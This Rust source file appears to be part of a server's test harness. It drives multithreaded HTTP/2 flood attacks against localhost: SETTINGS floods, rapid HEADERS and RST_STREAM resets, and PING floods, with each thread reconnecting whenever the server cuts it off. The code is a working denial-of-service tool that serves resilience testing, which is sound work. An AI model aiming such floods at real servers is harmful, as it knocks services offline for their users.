//! Attackers that speak HTTP/2 as fast as the server takes it, read nothing, and come back when they are cut off.

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use rustls::client::Resumption;
use rustls::{ClientConfig, ClientConnection, StreamOwned};
use socket2::{Domain, Socket, Type};

use super::attack::{Attack, CONNECTIONS, PIECES, say_ready, source};
use super::tls;
use crate::Result;

const ATTACKERS: usize = 16;
/// What they send in one go.
const BLAST: usize = 16 * 1024;
/// A server that does not read any more has won as well.
const WRITE_PATIENCE: Duration = Duration::from_secs(2);
/// After the server has ended a connection.
const REST: Duration = Duration::from_millis(20);
/// Long enough for the first blasts to be under way.
const RUN_UP: Duration = Duration::from_millis(300);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const NO_FLAGS: u8 = 0;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(crate) fn run(attack: Attack, port: u16) -> Result<()> {
    let config = tls::client(b"h2", Resumption::disabled())?;
    for number in 0..ATTACKERS {
        let config = Arc::clone(&config);
        std::thread::spawn(move || {
            loop {
                // However it ends: that is the server's defense.
                flood(attack, number, port, &config).ok();
                std::thread::sleep(REST);
            }
        });
    }
    std::thread::sleep(RUN_UP);
    say_ready();
    // Until whoever started this process ends it.
    loop {
        std::thread::park();
    }
}

/// One connection, until the server ends it.
fn flood(attack: Attack, number: usize, port: u16, config: &Arc<ClientConfig>) -> Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&source(number).into())?;
    socket.connect(&SocketAddr::from((Ipv4Addr::LOCALHOST, port)).into())?;
    let tcp = TcpStream::from(socket);
    tcp.set_nodelay(true)?;
    tcp.set_write_timeout(Some(WRITE_PATIENCE))?;
    tcp.set_read_timeout(Some(WRITE_PATIENCE))?;
    let mut stream = StreamOwned::new(ClientConnection::new(Arc::clone(config), tls::server_name())?, tcp);
    stream.write_all(PREFACE)?;
    stream.write_all(&frame(SETTINGS, NO_FLAGS, 0, &[]))?;
    stream.flush()?;
    CONNECTIONS.fetch_add(1, Ordering::Relaxed);
    let (head, mut next_stream) = (head(port), 1);
    loop {
        let (blast, frames) = blast(attack, &head, &mut next_stream);
        stream.write_all(&blast)?;
        stream.flush()?;
        PIECES.fetch_add(frames, Ordering::Relaxed);
    }
}

fn blast(attack: Attack, head: &[u8], next_stream: &mut u32) -> (Vec<u8>, u64) {
    let mut bytes = Vec::with_capacity(BLAST + 64);
    let mut frames = 0;
    while bytes.len() < BLAST {
        match attack {
            Attack::Settings => bytes.extend(frame(SETTINGS, NO_FLAGS, 0, &[])),
            Attack::Resets => {
                bytes.extend(frame(HEADERS, END_STREAM_AND_HEADERS, *next_stream, head));
                bytes.extend(frame(RST_STREAM, NO_FLAGS, *next_stream, &CANCEL));
                *next_stream += 2;
            }
            Attack::Pings | Attack::SlowHeads | Attack::ZeroBytes => {
                bytes.extend(frame(PING, NO_FLAGS, 0, b"beside!!"));
            }
        }
        frames += 1;
    }
    (bytes, frames)
}

/// By HPACK (RFC 7541): GET and https from the static table, path and authority written out.
fn head(port: u16) -> Vec<u8> {
    let authority = format!("127.0.0.1:{port}");
    let length = u8::try_from(authority.len()).unwrap_or_default();
    [b"\x82\x87\x04\x06/small\x01", &[length][..], authority.as_bytes()].concat()
}

/// RFC 9113 section 4.1; payloads here are shorter than 256 bytes.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u8::try_from(payload.len()).unwrap_or(u8::MAX);
    let mut frame = vec![0, 0, length, kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
